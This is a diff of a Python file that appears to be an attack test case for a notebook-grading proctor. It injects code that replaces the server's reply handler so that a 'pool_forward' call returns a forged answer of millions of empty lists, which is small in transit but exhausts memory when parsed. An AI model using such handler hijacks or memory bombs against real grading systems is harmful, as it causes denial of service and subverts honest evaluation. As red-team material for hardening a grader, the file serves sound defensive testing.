@@ -1,4 +1,4 @@
-"""An answer of millions of empty lists: small on its way, large in memory.
+"""Answers of millions of empty lists, small on their way, large in memory; one is too long.
 
 graded: 22
 """
@@ -7,30 +7,27 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from attacks.tools import save, start_with
+from attacks.tools import SERVER, save, start_with
 from nbformat import NotebookNode
 
 SOURCE = """
-kernel = get_ipython().kernel
-answer = kernel.shell_handlers["proctor_call_request"]
+honest = server._answer
+answers = 0
 
 
-async def wide(stream, ident, parent):
-    if parent["content"].get("name") != "pool_forward":
-        return await answer(stream, ident, parent)
-    session = kernel.session
-    message = session.msg("proctor_call_reply", {}, parent=parent)
-    content = b'{"nonce": "", "status": "ok", "value": [' + b"[]," * 25_000_000 + b"[]]}"
-    parts = [session.pack(message[part]) for part in ("header", "parent_header", "metadata")]
-    parts.append(content)
-    socket = getattr(stream, "socket", stream)
-    socket.send_multipart([*ident, b"<IDS|MSG>", session.sign(parts), *parts])
+def wide(request, buffers):
+    global answers
+    if getattr(request, "name", "") != "pool_forward" or not isinstance(request, CallFunction):
+        return honest(request, buffers)
+    answers += 1
+    lists = b"[]," * (25_000_000 if answers == 1 else 2_700_000)
+    line._connection.send_bytes(b'[%d, [], "Value", [%s[]]]' % (server._number, lists))
 
 
-kernel.shell_handlers["proctor_call_request"] = wide
+server._answer = wide
 """
 
 
 def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
-    start_with(right, "pool_forward", SOURCE)
+    start_with(right, "pool_forward", SERVER + SOURCE)
     save(folder, right)
